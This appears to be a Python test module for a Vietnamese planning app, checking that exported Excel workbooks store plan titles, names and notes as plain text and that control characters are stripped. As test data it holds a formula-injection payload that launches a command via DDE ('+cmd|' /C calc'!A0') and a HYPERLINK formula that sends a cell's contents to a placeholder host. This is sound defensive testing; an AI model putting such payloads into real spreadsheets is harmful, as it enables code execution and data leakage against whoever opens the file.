"""Text that attacks a spreadsheet or a database: formulas and control characters.

A plan's titles, a roster's names and an officer's notes end up in the weekly
workbook and in TuDanhGia.xlsx. Every one must be a plain string cell (no
formula, whatever it starts with) that reads exactly as typed; control
characters are dropped where text comes in, so no unit's summary can fail on
them and PostgreSQL never sees a NUL. On SQLite and PostgreSQL.
"""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from core.evidence_pack import self_assessment_workbook
from core.export import pack_contents
from core.officers import add_officer
from core.plan_store import import_plan
from core.plans import parse_plan_file
from core.progress import record_progress
from core.roster import read_roster
from core.summary import compute_summary
from core.summary_xlsx import render_workbook
from storage.models import Criterion, ProgressUpdate, Unit

LINK = '=HYPERLINK("http://example.invalid/?"&C2,"Xem chi tiết")'
PLAN = f"""dondoc_plan: 1
unit: Xã Hòa Bình
year: 2024
criteria:
  - {{index: PAR, code: "I", title: "Công tác\\0 chỉ đạo\\x1b"}}
  - index: PAR
    code: "1.1"
    title: '{LINK.replace("'", "''")}'
    requirement: "- Tối thiểu 01 sáng kiến\\x01"
    lead: Văn phòng - Thống kê
    deadline: Quý III/2024
  - {{index: PAR, code: "1.2", title: "- Gạch đầu dòng", lead: Văn phòng - Thống kê}}
"""
NOTE = "+cmd|' /C calc'!A0\x00\x1b"


def _formulas(workbook: bytes) -> list[str]:
    """Every <f> (formula) element in any sheet of the workbook."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in zf.read(name) or b"<f " in zf.read(name)]


def _texts(workbook: bytes) -> dict[str, str]:
    """Cell text -> its openpyxl data type, over every sheet."""
    book = load_workbook(io.BytesIO(workbook))
    return {
        str(cell.value): cell.data_type
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


async def _world(session: AsyncSession) -> Criterion:
    plan = parse_plan_file(PLAN.encode(), filename="plan.yaml")
    report = await import_plan(
        session,
        unit_name="Xã Hòa Bình",
        plan=plan,
        source_name="plan.yaml",
        source_sha256=None,
        actor="test",
    )
    item = await session.scalar(select(Criterion).where(Criterion.code == "1.1"))
    assert item is not None and report.plan_created
    unit = await session.get_one(Unit, item.unit_id)
    officer, _ = await add_officer(
        session, unit=unit, name="=Lan\x07", positions=["VPTK"], actor="test"
    )
    await record_progress(
        session,
        officer=officer,
        criterion=item,
        status="blocked",
        note=NOTE,
        source="cli",
        source_update_id=None,
        now=datetime(2024, 3, 4, 3, tzinfo=UTC),
    )
    await session.commit()
    return item


async def test_control_characters_are_dropped_on_the_way_in_on_both_databases(
    session: AsyncSession,
) -> None:
    await _world(session)
    titles = list(await session.scalars(select(Criterion.title).order_by(Criterion.ordinal)))
    assert titles == ["Công tác chỉ đạo", LINK, "- Gạch đầu dòng"]
    requirement = await session.scalar(select(Criterion.requirement).where(Criterion.code == "1.1"))
    assert requirement == "- Tối thiểu 01 sáng kiến"
    assert await session.scalar(select(ProgressUpdate.note)) == "+cmd|' /C calc'!A0"


async def test_the_weekly_workbook_holds_text_never_a_formula(session: AsyncSession) -> None:
    item = await _world(session)
    unit = await session.get_one(Unit, item.unit_id)
    summary = await compute_summary(session, unit=unit, as_of=date(2024, 10, 4))
    workbook = render_workbook(summary)
    assert _formulas(workbook) == []
    texts = _texts(workbook)
    for shown in (LINK, "+cmd|' /C calc'!A0", "=Lan"):
        assert texts.get(shown) == "s", (shown, sorted(texts))


async def test_the_self_assessment_table_holds_text_never_a_formula(
    session: AsyncSession, tmp_path: Path
) -> None:
    item = await _world(session)
    unit = await session.get_one(Unit, item.unit_id)
    contents = await pack_contents(session, unit=unit, year=2024, evidence_dir=tmp_path)
    workbook = self_assessment_workbook(contents.items)
    assert _formulas(workbook) == []
    texts = _texts(workbook)
    assert texts.get(LINK) == "s"
    assert texts.get("- Gạch đầu dòng") == "s"  # reads as written


def test_a_roster_drops_control_characters_in_names() -> None:
    data = "Họ tên,Vị trí\nNguyễn\x1b Văn\x00 A,VPTK\n".encode()
    assert [row.name for row in read_roster(data, filename="ds.csv")] == ["Nguyễn Văn A"]
